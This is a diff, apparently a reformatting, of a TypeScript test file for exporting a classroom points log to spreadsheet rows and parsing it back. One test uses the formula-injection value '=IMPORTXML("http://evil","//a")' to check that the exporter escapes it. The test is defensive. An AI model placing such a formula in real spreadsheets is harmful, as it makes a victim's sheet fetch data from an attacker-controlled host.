@@ -4,13 +4,33 @@ import type { PointEvent } from '../../shared/points/types.ts';
 import { ev, stored } from './helpers.ts';
 
 const e1: PointEvent = {
-  eventId: 'a1', timestamp: '2026-11-23T01:02:03.000Z', studentId: '001', studentName: '王小明', group: '第1组',
-  category: '学习', points: 2, note: '回答问题', recordedBy: 't@school.cn', reverses: null, actionId: 'a1',
+  eventId: 'a1',
+  timestamp: '2026-11-23T01:02:03.000Z',
+  studentId: '001',
+  studentName: '王小明',
+  group: '第1组',
+  category: '学习',
+  points: 2,
+  note: '回答问题',
+  recordedBy: 't@school.cn',
+  reverses: null,
+  actionId: 'a1',
 };
 
 describe('LOG_HEADERS', () => {
   it('has the agreed columns in both languages', () => {
-    expect(LOG_HEADERS('zh').slice(0, 10)).toEqual(['事件ID', '时间', '学号', '姓名', '小组', '类别', '分数', '备注', '记录人', '撤销']);
+    expect(LOG_HEADERS('zh').slice(0, 10)).toEqual([
+      '事件ID',
+      '时间',
+      '学号',
+      '姓名',
+      '小组',
+      '类别',
+      '分数',
+      '备注',
+      '记录人',
+      '撤销',
+    ]);
     expect(LOG_HEADERS('en')[6]).toBe('Points');
     expect(LOG_HEADERS('zh')).toHaveLength(LOG_WIDTH);
     expect(LOG_HEADERS('en')).toHaveLength(LOG_WIDTH);
@@ -26,7 +46,13 @@ describe('eventToRow', () => {
     expect(row[9]).toBe('');
   });
   it('keeps formula-looking names and notes as text', () => {
-    const row = eventToRow({ ...e1, studentName: '=IMPORTXML("http://evil","//a")', note: '+1', group: '-2', category: '@x' });
+    const row = eventToRow({
+      ...e1,
+      studentName: '=IMPORTXML("http://evil","//a")',
+      note: '+1',
+      group: '-2',
+      category: '@x',
+    });
     expect(row[3]).toBe(`'=IMPORTXML("http://evil","//a")`);
     expect(row[7]).toBe("'+1");
     expect(row[4]).toBe("'-2");
@@ -50,7 +76,14 @@ describe('eventToRow', () => {
 
 describe('rowsToEvents', () => {
   it('round-trips events written by eventToRow, header included', () => {
-    const second: PointEvent = { ...e1, eventId: 'a2', points: -2, reverses: 'a1', actionId: 'a2', note: '撤销 / undo' };
+    const second: PointEvent = {
+      ...e1,
+      eventId: 'a2',
+      points: -2,
+      reverses: 'a1',
+      actionId: 'a2',
+      note: '撤销 / undo',
+    };
     const { events, problems } = rowsToEvents([LOG_HEADERS('zh'), stored(eventToRow(e1)), stored(eventToRow(second))]);
     expect(problems).toEqual([]);
     expect(events).toEqual([e1, second]);
@@ -62,18 +95,24 @@ describe('rowsToEvents', () => {
     expect(events[0]!.timestamp).toBe('2026-11-23T01:02:03.000Z');
   });
   it('accepts points typed as text or full-width digits', () => {
-    const a = stored(eventToRow(e1)); a[6] = '3';
-    const b = stored(eventToRow({ ...e1, eventId: 'b' })); b[6] = '－１';
+    const a = stored(eventToRow(e1));
+    a[6] = '3';
+    const b = stored(eventToRow({ ...e1, eventId: 'b' }));
+    b[6] = '－１';
     const { events, problems } = rowsToEvents([a, b]);
     expect(problems).toEqual([]);
     expect(events.map((e) => e.points)).toEqual([3, -1]);
   });
   it('skips broken rows with the sheet row number and keeps the rest', () => {
     const good = stored(eventToRow(e1));
-    const badPoints = stored(eventToRow({ ...e1, eventId: 'b' })); badPoints[6] = '两分';
-    const noId = stored(eventToRow({ ...e1, eventId: 'c' })); noId[0] = '';
-    const badTime = stored(eventToRow({ ...e1, eventId: 'd' })); badTime[1] = '昨天';
-    const noStudent = stored(eventToRow({ ...e1, eventId: 'f' })); noStudent[2] = '';
+    const badPoints = stored(eventToRow({ ...e1, eventId: 'b' }));
+    badPoints[6] = '两分';
+    const noId = stored(eventToRow({ ...e1, eventId: 'c' }));
+    noId[0] = '';
+    const badTime = stored(eventToRow({ ...e1, eventId: 'd' }));
+    badTime[1] = '昨天';
+    const noStudent = stored(eventToRow({ ...e1, eventId: 'f' }));
+    noStudent[2] = '';
     const dup = stored(eventToRow(e1));
     const { events, problems } = rowsToEvents([LOG_HEADERS('zh'), good, badPoints, noId, badTime, noStudent, dup]);
     expect(events.map((e) => e.eventId)).toEqual(['a1']);
@@ -88,7 +127,13 @@ describe('rowsToEvents', () => {
     expect(problems[4]!.message.en).toContain('twice');
   });
   it('ignores blank (deleted or cleared) rows silently', () => {
-    const { events, problems } = rowsToEvents([LOG_HEADERS('zh'), stored(eventToRow(e1)), ['', '', null], [], stored(eventToRow({ ...e1, eventId: 'z' }))]);
+    const { events, problems } = rowsToEvents([
+      LOG_HEADERS('zh'),
+      stored(eventToRow(e1)),
+      ['', '', null],
+      [],
+      stored(eventToRow({ ...e1, eventId: 'z' })),
+    ]);
     expect(problems).toEqual([]);
     expect(events).toHaveLength(2);
   });
@@ -101,7 +146,8 @@ describe('rowsToEvents', () => {
     expect(problems[0]!.message.zh).toContain('999');
   });
   it('gives a hand-typed row without action ID its own action', () => {
-    const row = stored(eventToRow(e1)); row[10] = '';
+    const row = stored(eventToRow(e1));
+    row[10] = '';
     expect(rowsToEvents([row]).events[0]!.actionId).toBe('a1');
   });
   it('reads 100,000 rows in one pass', () => {
